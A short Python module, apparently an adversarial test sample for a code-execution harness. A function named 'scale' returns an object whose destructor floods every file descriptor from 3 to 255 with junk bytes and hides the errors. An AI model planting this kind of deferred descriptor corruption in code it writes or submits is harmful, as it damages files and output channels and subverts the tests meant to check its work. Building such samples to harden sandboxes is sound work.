"""Returns an object that writes to every descriptor when it is deleted."""

import os


class Last:
    def __del__(self):
        for number in range(3, 256):
            try:
                os.write(number, b"@MARK@" * 1000)
            except OSError:
                pass


def scale(x):
    return Last()
